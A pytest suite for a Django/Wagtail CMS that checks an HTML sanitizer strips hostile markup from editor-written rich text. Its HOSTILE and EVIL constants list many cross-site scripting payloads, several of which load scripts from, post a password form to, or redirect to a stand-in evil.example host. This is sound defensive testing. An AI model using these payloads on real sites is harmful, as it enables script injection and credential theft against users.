"""What editors write reaches a page as text and known markup alone, however it came into the database."""

from html.parser import HTMLParser

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wagtail.rich_text import RichText

from cms_pages.markup import harmless, harmless_address
from cms_pages.models import Clause, FaqEntry, Topic
from tests.factories import pages

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>body{display:none}</style>",
    '<p style="background:url(//evil.example/x)">字</p>',
    '<p onclick="alert(1)" onmouseover=alert(1)>字</p>',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="/ok" href="javascript:alert(1)" onfocus="alert(1)" autofocus>x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example></object><embed src=//evil.example>",
    '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></main></body><p>字</p>",
]
ACTIVE = (
    *("<script", "<style", "<img", "<svg", "<iframe", "<form", "<meta", "<base", "<link", "<object", "<embed"),
    *("onerror", "onload", "onclick", "ontoggle", "autofocus", "style=", "srcdoc", "</div", "</main"),
    *("javascript:", "vbscript:", "data:"),
)


class Seen(HTMLParser):
    """The tags and attributes of a text, and whether each element is closed where it should be."""

    def __init__(self, html: str):
        super().__init__()
        self.tags, self.attributes, self.open, self.sound = set(), set(), [], True
        self.feed(html)
        self.close()
        self.sound = self.sound and not self.open

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _value in attrs}
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        self.sound = self.sound and bool(self.open) and self.open.pop() == tag


def active_in(html: str) -> list[str]:
    """What would act, among tags and attributes: as words of a text these are harmless."""
    tags = "".join(f"<{part.partition('>')[0]}>" for part in html.lower().split("<")[1:])
    return [word for word in ACTIVE if word in tags]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left_and_what_is_left_is_well_formed(html):
    left = harmless(f"<p>前</p>{html}<p>后</p>")
    assert active_in(left) == [] and Seen(left).sound
    assert left.startswith("<p>前</p>")


def test_what_the_editor_makes_stays_as_it_is():
    for html in (
        "<h2>一</h2><p>字<b>粗</b><i>斜</i><br>下一行</p><ul><li>甲</li><li>乙<ol><li>丙</li></ol></li></ul><hr>",
        '<p><a href="/services/x/?a=1&amp;b=2">内</a> <a href="https://example.cn/x">外</a></p>',
        '<p><a href="mailto:a@example.cn">信</a> <a href="tel:12351">电话</a> <a href="#part">段</a></p>',
        "<p>3 &lt; 5 &amp; 7</p>",
        '<table><thead><tr><th scope="col">列</th></tr></thead><tbody><tr><td colspan="2">格</td></tr></tbody></table>',
    ):
        assert harmless(html) == html
    assert harmless('<p data-block-key="x1">字</p>') == "<p>字</p>"
    assert harmless("<div><span>字</span></div>") == "字"
    assert harmless("<p>甲<p>乙") == "<p>甲</p><p>乙</p>"


def test_an_address_leads_somewhere_or_is_none():
    for address in ("/x/", "../y", "#z", "//example.cn/", "HTTPS://example.cn", "tel:12351", "x:y/z"[2:]):
        assert harmless_address(address) == address
    for address in ("javascript:1", "\x00javascript:1", "java\nscript:1", "DATA:text/html,x", "blob:x", "file:///etc"):
        assert harmless_address(address) == ""


PIECES = [
    "<",
    ">",
    "/",
    "=",
    '"',
    "'",
    "&",
    ";",
    "!",
    "--",
    " ",
    "\n",
    "a",
    "p",
    "b",
    "script",
    "style",
    "<a href=",
    "<p>",
]
PIECES += ["</p>", "<li>", "<svg>", "</svg>", "<br/>", "on", "javascript:", "字"]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_whatever_is_put_in_known_tags_come_out_and_once_is_enough(html):
    left = harmless(html)
    seen = Seen(left)
    assert seen.sound and seen.attributes <= {"href", "title", "lang", "dir"}
    assert not seen.tags & {"script", "style", "img", "svg", "iframe"}
    assert harmless(left) == left


EVIL = (
    '<p onclick="alert(1)">看得见</p><script>alert("evil")</script><a href="javascript:alert(1)">链接</a>'
    "<img src=x onerror=alert(1)>"
)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["article", "guide", "policy", "questions"])
def test_what_was_stored_raw_reaches_no_page(client, kind):
    page = stored_raw(kind)
    answer = client.get(page.url)
    assert answer.status_code == 200
    shown = answer.content.decode().split("<main")[1].split("</main")[0]
    assert "看得见" in shown and "链接" in shown
    assert "alert(" not in shown and "javascript:" not in shown and "onerror" not in shown and "onclick" not in shown


def stored_raw(kind: str):
    """A public page whose rich text was written past every form."""
    parts = {"questions": [{"question": "问", "answer": EVIL}]}
    body = [("paragraph", EVIL), ("faq", parts), ("steps", {"steps": [{"title": "一", "text": EVIL}] * 2})]
    body += [("action", {"text": "按", "page": None, "link": "javascript:alert(1)"})]
    if kind == "article":
        return pages.article("示例文章", body=body)
    if kind == "guide":
        page = pages.guide("示例指南")
        type(page).objects.filter(pk=page.pk).update(eligibility=EVIL, documents=EVIL)
    elif kind == "policy":
        page = pages.policy()
        Clause.objects.filter(page=page).update(text=EVIL)
    else:
        page = pages.questions()
        FaqEntry.objects.filter(page=page).update(answer=EVIL)
    return page


@pytest.mark.django_db
def test_a_copied_page_is_as_harmless_as_the_first(client):
    page = stored_raw("article")
    copied = page.copy(update_attrs={"slug": "copied", "title": "副本"})
    assert "alert(" not in client.get(copied.url).content.decode().split("<main")[1].split("</main")[0]


@pytest.mark.django_db
def test_cleaning_asks_the_database_nothing():
    text = RichText(EVIL + f"<p>{Topic.objects.first()}</p>")
    with CaptureQueriesContext(connection) as asked:
        assert "看得见" in str(text)
    assert len(asked) == 0
